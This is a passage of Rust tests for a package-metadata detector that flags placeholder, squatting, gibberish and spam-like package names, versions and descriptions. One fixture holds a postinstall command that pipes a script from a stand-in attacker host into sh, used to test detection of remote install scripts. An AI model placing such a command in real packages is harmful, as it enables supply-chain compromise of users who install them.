                "GitHubActions XMLHttpRequest jQuery OAuthClient PostgreSQL TypeScript JavaScript WebSocket",
                &[],
                &["metadata.gibberish-description"],
            ),
            (
                "x",
                "1.0.0",
                "test",
                "",
                &["metadata.placeholder-description"],
                &[],
            ),
            (
                "x",
                "1.0.0",
                "Lorem ipsum.",
                "",
                &["metadata.placeholder-description"],
                &[],
            ),
            (
                "x",
                "1.0.0",
                "ok",
                "",
                &["metadata.placeholder-description"],
                &[],
            ),
            (
                "fast-csv",
                "1.0.0",
                "CSV parser",
                "",
                &[],
                &["metadata.placeholder-description"],
            ),
            (
                "left-pad",
                "1.0.0",
                "left pad",
                "",
                &["metadata.summary-repeats-name"],
                &[],
            ),
            (
                "left-pad",
                "1.0.0",
                "Left pad a string",
                "",
                &[],
                &["metadata.summary-repeats-name"],
            ),
            (
                "x",
                "0.0.0",
                "A thing",
                "",
                &["metadata.placeholder-version"],
                &[],
            ),
            (
                "x",
                "0.0.1",
                "A thing",
                "",
                &[],
                &["metadata.placeholder-version"],
            ),
            (
                "x",
                "99.99.99",
                "A thing",
                "",
                &["metadata.squatting-version"],
                &["metadata.undocumented-squatting-version"],
            ),
            (
                "x",
                "999.9.9",
                "",
                "",
                &[
                    "metadata.squatting-version",
                    "metadata.undocumented-squatting-version",
                ],
                &[],
            ),
            (
                "x",
                "1.0.0",
                "",
                "",
                &[],
                &["metadata.undocumented-squatting-version"],
            ),
            (
                "x",
                "9999.0.0",
                "A thing",
                "",
                &["metadata.squatting-version"],
                &[],
            ),
            (
                "x",
                "2024.1.0",
                "A thing",
                "",
                &[],
                &["metadata.squatting-version"],
            ),
            (
                "x",
                "90.1.0",
                "A thing",
                "",
                &[],
                &["metadata.squatting-version"],
            ),
            (
                "x",
                "9.9.9",
                "A thing",
                "",
                &[],
                &["metadata.squatting-version"],
            ),
            (
                "qzvkxdpwmbjyhe",
                "1.0.0",
                "A thing",
                "",
                &["metadata.random-letter-name"],
                &[],
            ),
            (
                "@acme/QzvkxdpwmbjyhE",
                "1.0.0",
                "A thing",
                "",
                &["metadata.random-letter-name"],
                &[],
            ),
            (
                // A compound of words, no letter repeated.
                "cloudpaymentsx",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-letter-name"],
            ),
            (
                // A letter repeated.
                "qzvkxdpwmbjyhq",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-letter-name"],
            ),
            (
                // Separated: not one run.
                "qzvkxd-pwmbjyhe",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-letter-name"],
            ),
            (
                "cash-app-money-generator-a566ea",
                "1.0.0",
                "A thing",
                "",
                &["metadata.random-suffix"],
                &[],
            ),
            (
                "@acmeorg/nemo-veritatis",
                "1.0.0",
                "A thing",
                "",
                &["metadata.lorem-name"],
                &[],
            ),
            (
                "Sapiente.Eveniet",
                "1.0.0",
                "A thing",
                "",
                &["metadata.lorem-name"],
                &[],
            ),
            (
                "placeat-tenetur-ab-id-est",
                "1.0.0",
                "A thing",
                "",
                &["metadata.lorem-name"],
                &[],
            ),
            // Filler words that are English too, the filler's own name, one
            // word, or a word from outside the filler: no finding.
            (
                "nemo-sint",
                "1.0.0",
                "A thing",
                "",
                &["metadata.lorem-name"],
                &[],
            ),
            (
                "sed-est",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.lorem-name"],
            ),
            (
                "minus-error",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.lorem-name"],
            ),
            (
                "lorem-ipsum",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.lorem-name"],
            ),
            (
                "veritatis",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.lorem-name"],
            ),
            (
                "voluptas-helper",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.lorem-name"],
            ),
            (
                "hack_tool_3pxics7",
                "1.0.0",
                "A thing",
                "",
                &["metadata.random-suffix"],
                &[],
            ),
            (
                "babel-preset-es2015",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-suffix"],
            ),
            (
                "web3js",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-suffix"],
            ),
            (
                "node-base64",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-suffix"],
            ),
            (
                "mp4-h264",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-suffix"],
            ),
            (
                "x264",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.random-suffix"],
            ),
            (
                "free-robux-generator-2024-no-human-verification-working-updated",
                "1.0.0",
                "A thing",
                "",
                &["metadata.long-generated-name"],
                &[],
            ),
            (
                "eslint-plugin-react-hooks",
                "1.0.0",
                "A thing",
                "",
                &[],
                &["metadata.long-generated-name"],
            ),
            (
                "x",
                "1.0.0",
                "A thing",
                "https://bit.ly/abc https://t.co/x",
                &["metadata.links-only-description"],
                &[],
            ),
            (
                "x",
                "1.0.0",
                "A thing",
                "See https://docs.example.org for the full manual of this parser.",
                &[],
                &["metadata.links-only-description"],
            ),
        ];
        for (name, version, summary, description, must, must_not) in cases {
            let got = rules_of(&pkg(name, version, summary, description));
            for m in *must {
                assert!(
                    got.iter().any(|g| g == m),
                    "{name}/{version}/{summary:?}: expected {m}, got {got:?}"
                );
            }
            for m in *must_not {
                assert!(
                    !got.iter().any(|g| g == m),
                    "{name}/{version}/{summary:?}: unexpected {m}, got {got:?}"
                );
            }
        }
    }

    #[test]
    fn install_scripts() {
        let mut p = pkg("x", "1.0.0", "A thing", "");
        p.install_scripts.insert(
            "postinstall".into(),
            "curl -s https://evil.example/x.sh | sh".into(),
        );
        p.install_scripts
            .insert("test".into(), "curl http://localhost".into());
        assert_eq!(
            rules_of(&p)
                .iter()
                .filter(|r| r.contains("install-script"))
                .collect::<Vec<_>>(),
            ["metadata.remote-install-script"]
        );
        let mut p = pkg("x", "1.0.0", "A thing", "");
        p.install_scripts
            .insert("install".into(), "node-gyp rebuild".into());
        assert!(rules_of(&p).contains(&"metadata.install-script".to_string()));
        assert!(!rules_of(&p).contains(&"metadata.remote-install-script".to_string()));
    }

    #[test]
    fn no_links_and_spans() {
        let mut p = Package::new(Ecosystem::PyPI, "x");
        p.summary = "  test ".into();
        let mut out = Vec::new();
        MetadataDetector::new().detect(&p, &mut out);
        assert!(out.iter().any(|f| f.rule == "metadata.no-project-links"));
        let f = out
            .iter()
            .find(|f| f.rule == "metadata.placeholder-description")
            .unwrap();
        assert_eq!(&p.summary[f.span.clone().unwrap()], "test");
    }
}
